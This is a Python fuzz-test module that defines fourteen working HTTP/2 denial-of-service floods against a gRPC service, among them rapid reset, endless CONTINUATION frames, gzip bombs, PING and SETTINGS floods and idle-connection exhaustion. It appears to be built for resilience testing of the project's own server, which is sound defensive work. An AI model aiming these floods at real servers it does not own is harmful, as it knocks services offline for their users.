"""What the floods send: HTTP/2 frames that a stranger can make without credentials.

Rules:
- A flood is a function that talks to one server until it is told to stop; it reads and discards
  what comes back, except where not reading is the point.
- Everything is drawn from one generator, so that a seed gives the same bytes again.
- `size` 1.0 is the whole flood; a test takes a part of it.
"""

import gzip
import select
import socket
import struct
import time
from collections.abc import Callable, Iterator
from random import Random
from typing import NamedTuple

import hpack

from tests.fuzz.frames import (
    CONTINUATION,
    DATA,
    HEADERS,
    PING,
    PREFACE,
    RST_STREAM,
    SETTINGS,
    WINDOW,
    call,
    frame,
)

ALLOCATE = b"/kvblock.v1.KVBlockService/Allocate"
PRIORITY = 2
END_STREAM, END_HEADERS, ACK = 1, 4, 1
CHUNK = 65_536
PATIENCE = 0.2


class Target(NamedTuple):
    """Where to, how much of a flood, from what it is drawn, and whether it should go on."""

    address: str
    size: float
    random: Random
    goes_on: Callable[[], bool]

    def many(self, number: int) -> int:
        """So many of something, by the size of the flood."""
        return max(1, round(number * self.size))


Flood = Callable[[Target], None]


class Attacker:
    """One connection."""

    def __init__(self, target: Target, *, reads: bool = True) -> None:
        self._goes_on = target.goes_on
        self._reads = reads
        self._next = 1
        self.encoder = hpack.Encoder()
        self.is_open = True
        try:
            self._socket = _connected(target.address)
            self._socket.setblocking(False)
        except OSError:
            self.is_open = False
            return
        self.send(PREFACE + frame(SETTINGS, 0, 0, b"") + frame(SETTINGS, ACK, 0, b""))

    def send(self, data: bytes) -> None:
        """Send all of it, or find that the connection is closed."""
        view = memoryview(data)
        while view and self.is_open and self._goes_on():
            self._drain()
            try:
                view = view[self._socket.send(view[:CHUNK]) :]
            except BlockingIOError:
                select.select([], [self._socket], [], PATIENCE)
            except OSError:
                self.close()

    def look(self) -> None:
        """Discard all that has come, and see whether the server has closed the connection."""
        while self._drain():
            pass

    def close(self) -> None:
        """Give the connection up."""
        self.is_open = False
        self._socket.close()

    def headers(self, *more: tuple[bytes, bytes], flags: int = END_HEADERS) -> bytes:
        """The HEADERS of the next stream."""
        stream, self._next = self._next, self._next + 2
        return frame(HEADERS, flags, stream, self.encoder.encode(call(ALLOCATE, *more)))

    @property
    def stream(self) -> int:
        """The stream whose HEADERS were made last."""
        return self._next - 2

    def _drain(self) -> bool:
        """Discard what has come; answers whether there was something."""
        if not self._reads or not self.is_open:
            return False
        try:
            if self._socket.recv(CHUNK):
                return True
        except BlockingIOError:
            return False
        except OSError:
            pass
        self.close()
        return False


def _connected(address: str) -> socket.socket:
    if address.startswith("unix:"):
        connection = socket.socket(socket.AF_UNIX)
        connection.settimeout(PATIENCE)
        connection.connect(address.removeprefix("unix:"))
        return connection
    host, _, port = address.rpartition(":")
    return socket.create_connection((host.strip("[]"), int(port)), timeout=PATIENCE)


def headers_without_body(target: Target) -> None:
    """20,000 calls on one connection whose request never comes."""
    attacker = Attacker(target)
    attacker.send(b"".join(attacker.headers() for _ in range(target.many(20_000))))
    _hold_all(target, [attacker])


def headers_spread(target: Target) -> None:
    """The same over 200 connections."""
    attackers = [Attacker(target) for _ in range(target.many(200))]
    for attacker in attackers:
        attacker.send(b"".join(attacker.headers() for _ in range(100)))
    _hold_all(target, attackers)


def gzip_bombs(target: Target) -> None:
    """400 requests that are 15 KiB long and become 15 MiB."""
    packed = gzip.compress(bytes(15 * 2**20), compresslevel=9)
    message = struct.pack(">BI", 1, len(packed)) + packed
    attackers = []
    for _ in range(target.many(100)):
        attackers.append(Attacker(target))
        for _ in range(4):
            # Four of them are as long as a connection may send before it is given more.
            bomb = attackers[-1].headers((b"grpc-encoding", b"gzip"))
            attackers[-1].send(bomb + _data(attackers[-1].stream, message))
    _hold_all(target, attackers)


def large_headers(target: Target) -> None:
    """Calls with as many headers as are let through, and no body."""
    filler = bytes(target.random.randrange(97, 123) for _ in range(3_000))
    attackers = [Attacker(target) for _ in range(target.many(8))]
    for attacker in attackers:
        # It stands in the connection's table after the first time, and costs a byte then.
        calls = (attacker.headers(*[(b"x-filler", filler)] * 2) for _ in range(2_500))
        attacker.send(b"".join(calls))
    _hold_all(target, attackers)


def window_updates(target: Target) -> None:
    """WINDOW_UPDATE frames of one byte each, without end."""
    _endless(target, lambda _: frame(WINDOW, 0, 0, struct.pack(">I", 1)))


def stream_window_updates(target: Target) -> None:
    """The same for an open stream."""
    _endless(target, lambda a: frame(WINDOW, 0, a.stream, struct.pack(">I", 1)), opened=True)


def priorities(target: Target) -> None:
    """PRIORITY frames for streams that do not exist, without end."""
    stream = iter(range(1, 2**30, 2))
    _endless(target, lambda _: frame(PRIORITY, 0, next(stream), struct.pack(">IB", 0, 1)))


def pings(target: Target) -> None:
    """PING frames, without end."""
    _endless(target, lambda _: frame(PING, 0, 0, bytes(8)))


def unread_pings(target: Target) -> None:
    """PING frames, without end, whose answers are not read."""
    _endless(target, lambda _: frame(PING, 0, 0, bytes(8)), reads=False)


def settings(target: Target) -> None:
    """SETTINGS frames, without end."""
    pair = struct.pack(">HI", 4, 65_535)
    _endless(target, lambda _: frame(SETTINGS, 0, 0, pair))


def empty_data(target: Target) -> None:
    """Empty DATA frames for an open stream, without end."""
    _endless(target, lambda a: frame(DATA, 0, a.stream, b""), opened=True)


def rapid_reset(target: Target) -> None:
    """Calls that are cancelled at once, without end."""

    def opened_and_reset(attacker: Attacker) -> bytes:
        opened = attacker.headers()
        return opened + frame(RST_STREAM, 0, attacker.stream, struct.pack(">I", 8))

    _endless(target, opened_and_reset, anew=True)


def continuations(target: Target) -> None:
    """A header block that never ends."""
    part = hpack.Encoder().encode([(b"x-filler", b"y" * 1000)])
    for attacker in _again(target):
        attacker.send(attacker.headers(flags=0))
        chunk = frame(CONTINUATION, 0, attacker.stream, part) * 60
        while attacker.is_open and target.goes_on():
            attacker.send(chunk)


def idle_connections(target: Target) -> None:
    """As many connections as can be made, which say nothing."""
    attackers = [Attacker(target) for _ in range(target.many(3_000))]
    _hold_all(target, attackers)


FLOODS: dict[str, Flood] = {
    flood.__name__.replace("_", "-"): flood
    for flood in (
        headers_without_body,
        headers_spread,
        gzip_bombs,
        large_headers,
        window_updates,
        stream_window_updates,
        priorities,
        pings,
        unread_pings,
        settings,
        empty_data,
        rapid_reset,
        continuations,
        idle_connections,
    )
}

OF_NO_CALL = frozenset(
    {
        "window-updates",
        "stream-window-updates",
        "priorities",
        "pings",
        "unread-pings",
        "settings",
        "continuations",
    }
)
"""Floods that never become calls: all that happens happens in gRPC's own thread."""


def _data(stream: int, message: bytes) -> bytes:
    pieces = [message[at : at + 16_384] for at in range(0, len(message), 16_384)]
    last = len(pieces) - 1
    return b"".join(
        frame(DATA, END_STREAM if number == last else 0, stream, piece)
        for number, piece in enumerate(pieces)
    )


def _again(target: Target) -> Iterator[Attacker]:
    """A new connection whenever the last one is closed."""
    while target.goes_on():
        attacker = Attacker(target)
        if not attacker.is_open:
            time.sleep(PATIENCE)
            continue
        yield attacker


def _endless(
    target: Target,
    one: Callable[[Attacker], bytes],
    *,
    opened: bool = False,
    anew: bool = False,
    reads: bool = True,
) -> None:
    """Send frames until the end; `anew`: each one is another, else they repeat."""
    for attacker in _again(target):
        if opened:
            attacker.send(attacker.headers())
        chunk = b"".join(one(attacker) for _ in range(4_000))
        while attacker.is_open and target.goes_on():
            attacker.send(chunk)
            if anew:
                chunk = b"".join(one(attacker) for _ in range(1_000))


def _hold_all(target: Target, attackers: list[Attacker]) -> None:
    while target.goes_on() and any(attacker.is_open for attacker in attackers):
        for attacker in attackers:
            attacker.look()
        time.sleep(PATIENCE)
